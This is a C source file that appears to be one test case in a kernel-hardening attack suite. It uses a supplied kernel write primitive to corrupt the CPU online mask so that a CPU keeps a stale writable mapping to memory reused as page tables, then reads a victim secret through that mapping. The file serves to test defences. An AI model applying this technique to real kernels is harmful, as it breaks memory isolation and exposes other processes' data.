// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack by way of when a key is in force. The kernel has all CPUs of a mask
 * forget old mappings. One that was taken out of it keeps the memory writable
 * that has become page tables. With page-table isolation a CPU forgets by
 * itself, whenever it enters the kernel under an emulator.
 */
#include <stddef.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#define MASK		"__cpu_online_mask"
#define FORCE_PART	0x5c
#define TABLES		6144
#define CHOSEN		20	/* page of the block */

/* What the other CPU is to store; it does not sleep, lest it forgets. */
static struct order {
	volatile int pending, err;
	volatile uint64_t addr, value;
} *order;

static void start_other_cpu(void)
{
	order = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (fork())
		return;
	stay_on_cpu(1);
	for (;;) {
		while (!order->pending)
			;
		order->err = kwrite64(order->addr, order->value);
		order->pending = 0;
	}
}

static int store_on_other_cpu(const void *how, uint64_t addr, uint64_t value)
{
	(void)how;
	order->addr = addr;
	order->value = value;
	order->pending = 1;
	while (order->pending)
		;
	return order->err;
}

/* Without a pool any table will do. */
static bool wait_for_table(volatile char *base, uint64_t page, struct window *window)
{
	int i;

	for (i = 1; i < TABLES; i++) {
		(void)base[i * PMD_SIZE];
		if (!window_open_behind(window, base + i * PMD_SIZE))
			return false;
		if (!is_protected() || (window->slot & -PAGE_SIZE) == page)
			return true;
	}
	return false;
}

static enum outcome store_with_old_mapping(volatile char *base, uint64_t page)
{
	struct window window;
	char text[64];
	int err;

	if (!wait_for_table(base, page, &window))
		return broken("none of %d tables is in the block", TABLES);
	err = window_map(&window, store_on_other_cpu, NULL, victim_phys());
	snprintf(text, sizeof(text), "%s", window.page);
	store_on_other_cpu(NULL, window.slot, 0);
	return judge_secret(text, err);
}

enum outcome cpu_mask(void)
{
	volatile char *base = sparse_region(user_room(FORCE_PART), TABLES, PROT_READ);
	uint64_t mask = ksymbol(MASK), old, block;
	enum outcome outcome;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	stay_on_cpu(0);
	start_other_cpu();
	if (!base || !mask || corrupt_command("alloc order=%d", __builtin_ctzl(PMD_SIZE / PAGE_SIZE)))
		return broken("no block, or no mask");
	block = corrupt_answer("address");
	(void)base[0];
	if (is_protected())
		use_up_blocks();
	store_on_other_cpu(NULL, block + CHOSEN * PAGE_SIZE, 0);
	old = kread64(mask);
	kwrite64(mask, 1);
	corrupt_command("free addr=0x%lx", block);
	outcome = store_with_old_mapping(base, block + CHOSEN * PAGE_SIZE);
	kwrite64(mask, old);
	corrupt_command("free");
	return outcome;
}
